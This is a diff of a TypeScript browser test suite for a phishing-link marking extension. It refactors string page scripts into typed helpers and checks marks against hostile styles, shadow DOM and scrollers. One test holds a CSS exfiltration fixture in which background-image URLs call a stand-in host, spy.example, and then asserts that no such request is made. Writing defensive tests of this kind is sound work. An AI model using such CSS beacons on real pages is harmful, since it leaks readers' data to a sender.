@@ -3,13 +3,22 @@ import { LISTED } from './harness/channel.ts';
 import { expect, test } from './harness/fixtures.ts';
 import { mailPage } from './harness/mail-pages.ts';
 import { untilMarked } from './harness/marks.ts';
-import { byId, CARD, MARKS, ROOT } from './harness/old-parts.ts';
-import { untilCount, untilFramed } from './harness/own-parts.ts';
+import { byId, CARD, untilCount, untilFramed } from './harness/own-parts.ts';
+import { script, scriptOf } from './harness/page-script.ts';
 import { htmlPage } from './harness/proxy.ts';
+
+declare global {
+  /** What a test's page offers to it. */
+  interface Window {
+    marksRender: (hrefs: readonly string[]) => void;
+    marksFailures: readonly string[];
+  }
+}
 
 test.use({ installation: 'kept' });
 
 const MAIL = mailPage();
+const BODY = scriptOf<HTMLElement>(MAIL.body);
 const PICTURE = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='300' height='600'/>`;
 
 test('hostile mail and page styles neither hide a mark, nor move it, nor pass for one', async ({ world }) => {
@@ -32,22 +41,35 @@ test('hostile mail and page styles neither hide a mark, nor move it, nor pass fo
       <p dir="rtl">&rlm;<a id="a" href="${LISTED.phishingUrl}">link</a></p>`),
   );
   // The mail has an element of our name; ours is the one under the root.
-  const root = `document.querySelector(':root > spamlight-marks').shadowRoot`;
-  await page.until(`${root}.querySelectorAll('.mark').length === 1`, { what: 'the mark' });
+  const root = script(({ one }) => one(':root > spamlight-marks').shadowRoot);
+  await page.until(
+    script((_, find) => find()?.querySelectorAll('.mark').length === 1, root),
+    { what: 'the mark' },
+  );
   await eventually('the mark at its link', async () => {
-    const off = await page.run(
-      `const mark = ${root}.querySelector('.mark:popover-open')?.getBoundingClientRect(), link = ${byId('a')}.getBoundingClientRect();
-       return !mark ? 1000 : Math.max(Math.abs(mark.x + 2 - link.x), Math.abs(mark.y + 2 - link.y), Math.abs(mark.width - 4 - link.width));`,
-    );
-    return Number(off) <= 1;
+    const off = await page.run(({ one }, find) => {
+      const mark = find()?.querySelector('.mark:popover-open')?.getBoundingClientRect();
+      const link = one('#a').getBoundingClientRect();
+      return mark === undefined
+        ? 1000
+        : Math.max(
+            Math.abs(mark.x + 2 - link.x),
+            Math.abs(mark.y + 2 - link.y),
+            Math.abs(mark.width - 4 - link.width),
+          );
+    }, root);
+    return off <= 1;
   });
   // Marks are drawn anew while a page settles.
   await eventually('a mark that is seen, in its color', () =>
-    page.run(
-      `const mark = ${root}.querySelector('.mark:popover-open'), frame = mark?.querySelector('.frame');
-       return mark?.checkVisibility({ opacityProperty: true, visibilityProperty: true }) &&
-         getComputedStyle(mark).opacity === '1' && getComputedStyle(frame).borderTopColor === 'rgb(198, 32, 22)';`,
-    ),
+    page.run(({ one }, find) => {
+      const mark = one('.mark:popover-open', find());
+      return (
+        mark.checkVisibility({ opacityProperty: true, visibilityProperty: true }) &&
+        getComputedStyle(mark).opacity === '1' &&
+        getComputedStyle(one('.frame', mark)).borderTopColor === 'rgb(198, 32, 22)'
+      );
+    }, root),
   );
 });
 
@@ -59,19 +81,19 @@ test('a sender learns nothing, and nothing of ours gets into what is copied, ans
     `${selector} { background-image: url(https://spy.example/${name}) }`;
   // What a framework does that keeps its own record of every node: it fails on a node that is not its own.
   const framework = `<script>
-    window.failures = [];
-    addEventListener('error', ({ message }) => failures.push(message));
-    addEventListener('unhandledrejection', ({ reason }) => failures.push(String(reason)));
-    window.render = (hrefs) => {
+    window.marksFailures = [];
+    addEventListener('error', ({ message }) => marksFailures.push(message));
+    addEventListener('unhandledrejection', ({ reason }) => marksFailures.push(String(reason)));
+    window.marksRender = (hrefs) => {
       const body = ${MAIL.body}, known = window.known ?? [];
       if (known.some((node, n) => body.childNodes[n] !== node) || (window.known && body.childNodes.length !== known.length))
-        failures.push('there is a node that I did not make');
+        marksFailures.push('there is a node that I did not make');
       for (const node of known.slice(hrefs.length)) body.removeChild(node);
       window.known = hrefs.map((href, n) => {
         const line = known[n] ?? body.appendChild(document.createElement('p'));
         const link = line.firstChild ?? line.appendChild(document.createElement('a'));
         if (line.childNodes.length !== 1 || [...link.attributes].some(({ name }) => name !== 'href' && name !== 'id'))
-          failures.push('something of my own was changed');
+          marksFailures.push('something of my own was changed');
         link.href = href; link.textContent = 'line ' + n; link.id = 'line' + n;
         return line;
       });
@@ -87,40 +109,52 @@ test('a sender learns nothing, and nothing of ours gets into what is copied, ans
   );
   const clean = 'https://www.example.org/';
   const other = `https://www.${LISTED.phishingHost}/`;
-  await page.run('render(args)', [LISTED.phishingUrl, clean, clean]);
-  const before = String(await page.run(`return ${MAIL.body}.outerHTML`));
+  const render = (hrefs: readonly string[]): Promise<void> =>
+    page.run((_, wanted) => window.marksRender(wanted), hrefs);
+  const whole = script((_, find) => new XMLSerializer().serializeToString(find()), BODY);
+  await render([LISTED.phishingUrl, clean, clean]);
+  const before = await page.run(whole);
   await untilMarked(page, [LISTED.phishingUrl]);
   await page.click(byId('line0'), 'move');
   await page.until(CARD, { what: 'the card' });
-  expect(await page.run(`return ${MAIL.body}.outerHTML`)).toBe(before);
+  expect(await page.run(whole)).toBe(before);
 
   const copied = await page.run(
-    `getSelection().selectAllChildren(document.documentElement);
-     const range = getSelection().getRangeAt(0);
-     const quoted = document.createElement('div');
-     quoted.append(range.cloneContents());
-     quoted.querySelectorAll('script, style').forEach((each) => each.remove());
-     getSelection().selectAllChildren(${MAIL.body});
-     return [getSelection().toString(), quoted.textContent, new XMLSerializer().serializeToString(${MAIL.body})].join();`,
+    ({ all }, body, text) => {
+      const selection = getSelection();
+      if (selection === null) throw new Error('nothing can be selected');
+      selection.selectAllChildren(document.documentElement);
+      const range = selection.getRangeAt(0);
+      const quoted = document.createElement('div');
+      quoted.append(range.cloneContents());
+      for (const each of all('script, style', quoted)) each.remove();
+      selection.selectAllChildren(body());
+      return [selection.toString(), quoted.textContent, text()].join();
+    },
+    BODY,
+    whole,
   );
-  expect(String(copied)).not.toMatch(/danger|phishing:|trust|spamlight/i);
-  expect(String(copied)).toContain('line 0');
-  expect(await page.run(`return document.querySelector('spamlight-marks').childNodes.length`)).toBe(0);
+  expect(copied).not.toMatch(/danger|phishing:|trust|spamlight/i);
+  expect(copied).toContain('line 0');
+  expect(await page.run(({ one }) => one('spamlight-marks').childNodes.length)).toBe(0);
   // Neither harness can look at paper.
   expect(
-    await page.run(
-      `return [...${ROOT}.adoptedStyleSheets].flatMap(({ cssRules }) => [...cssRules]).map(({ cssText }) => cssText).join('\\n')`,
+    await page.run(({ root }) =>
+      Array.from(root().adoptedStyleSheets)
+        .flatMap(({ cssRules }) => Array.from(cssRules))
+        .map(({ cssText }) => cssText)
+        .join('\n'),
     ),
   ).toMatch(/@media print\s*\{\s*:host\s*\{\s*display:\s*none\s*!important/);
 
   // Drawn anew: shorter, longer, other targets in the same nodes.
-  await page.run('render(args)', [clean]);
+  await render([clean]);
   await untilMarked(page, []);
-  await page.run('render(args)', [clean, other, clean, LISTED.phishingUrl]);
+  await render([clean, other, clean, LISTED.phishingUrl]);
   await untilMarked(page, [other, LISTED.phishingUrl]);
-  await page.run('render(args)', []);
+  await render([]);
   await untilMarked(page, []);
-  expect(await page.run('return failures')).toEqual([]);
+  expect(await page.run(() => window.marksFailures)).toEqual([]);
   expect(world.proxy.seen.filter(({ url }) => url.includes('spy.example'))).toEqual([]);
 });
 
@@ -138,23 +172,34 @@ test('marks follow their links through scrollers, and go where a link is clipped
     ),
     { width: 900, height: 700 },
   );
+  const scrollBox = (top: number): Promise<void> =>
+    page.run(({ one }, wanted) => {
+      one('#box').scrollTop = wanted;
+    }, top);
+  const hideWindow = (isHidden: boolean): Promise<void> =>
+    page.run(({ one }, wanted) => {
+      one('#window').hidden = wanted;
+    }, isHidden);
   await untilCount(page, 1);
   await untilFramed(page, byId('a'));
-  await page.run(`${byId('box')}.scrollTop = 60`);
+  await scrollBox(60);
   await untilFramed(page, byId('a'));
-  await page.run(`${byId('box')}.scrollTop = 500`);
+  await scrollBox(500);
   await untilCount(page, 0);
 
-  await page.run(`${byId('box')}.scrollTop = 1300`);
+  await scrollBox(1300);
   await page.until(
-    `(() => { const mark = ${MARKS}[0]?.getBoundingClientRect(), box = ${byId('box')}.getBoundingClientRect();
-       return mark && mark.top >= box.top - 8 && mark.bottom <= box.bottom + 8 && mark.height > 200; })()`,
+    ({ marks, one }) => {
+      const mark = marks()[0]?.getBoundingClientRect();
+      const box = one('#box').getBoundingClientRect();
+      return mark && mark.top >= box.top - 8 && mark.bottom <= box.bottom + 8 && mark.height > 200;
+    },
     { what: 'a mark on the visible part of a tall link' },
   );
 
-  await page.run(`${byId('window')}.hidden = false`);
+  await hideWindow(false);
   await untilCount(page, 0);
-  await page.run(`${byId('window')}.hidden = true`);
+  await hideWindow(true);
   await untilCount(page, 1);
 });
 
@@ -173,24 +218,33 @@ test('links in odd places are framed where they are, and what cannot be seen has
          <a href="${LISTED.phishingUrl}?none" style="display:none">not shown</a>
          <a href="${LISTED.phishingUrl}?clipped" style="display:inline-block;width:0;height:0;overflow:hidden">clipped</a></p>`),
   );
-  await page.run(
-    `const host = ${byId('host')};
-     host.attachShadow({ mode: 'open' }).append(Object.assign(document.createElement('a'), { href: args, textContent: 'inside' }));
-     host.after(document.createElement('p'));`,
-    `${LISTED.phishingUrl}?shadow`,
-  );
+  await page.run(({ one }, href) => {
+    const host = one('#host');
+    host
+      .attachShadow({ mode: 'open' })
+      .append(Object.assign(document.createElement('a'), { href, textContent: 'inside' }));
+    host.after(document.createElement('p'));
+  }, `${LISTED.phishingUrl}?shadow`);
   await untilCount(page, 4);
-  for (const element of [byId('send'), byId('text'), `${byId('host')}.shadowRoot.querySelector('a')`]) {
+  const inShadow = script(({ one }) => one('#host').shadowRoot?.querySelector('a'));
+  for (const element of [byId('send'), byId('text'), inShadow]) {
     await untilFramed(page, element);
   }
-  await untilFramed(
-    page,
-    `({ getBoundingClientRect() { const { x, y } = document.querySelector('img').getBoundingClientRect(); return new DOMRect(x + 20, y + 10, 100, 50); } })`,
-  );
-  await page.run(`${byId('details')}.open = true`);
+  // In place of the area, whose own box is not where it lies on its picture.
+  await untilFramed(page, ({ one }) => {
+    const { x, y } = one('img').getBoundingClientRect();
+    return Object.assign(document.createElement('area'), {
+      getBoundingClientRect: () => new DOMRect(x + 20, y + 10, 100, 50),
+    });
+  });
+  const fold = (isOpen: boolean): Promise<void> =>
+    page.run(({ one }, wanted) => {
+      one<HTMLDetailsElement>('#details').open = wanted;
+    }, isOpen);
+  await fold(true);
   await untilCount(page, 5);
   await untilFramed(page, byId('folded'));
-  await page.run(`${byId('details')}.open = false`);
+  await fold(false);
   await untilCount(page, 4);
 });
 
@@ -209,9 +263,9 @@ test('marks work under a strict policy with trusted types', async ({ world }) =>
   await untilFramed(page, byId('a'));
   await page.click(byId('a'), 'move');
   await page.until(CARD, { what: 'the card' });
-  expect(await page.run(`return getComputedStyle(${CARD}).position`)).toBe('fixed');
+  expect(await page.run(({ one, root }) => getComputedStyle(one('.card', root())).position)).toBe('fixed');
   await page.click(byId('a'));
-  await page.until(`${ROOT}.querySelector('dialog')?.open`, { what: 'the question' });
+  await page.until(({ dialog }) => dialog()?.open, { what: 'the question' });
 });
 
 test('an answer that is being written is left alone, quoted links and all', async ({ world }) => {
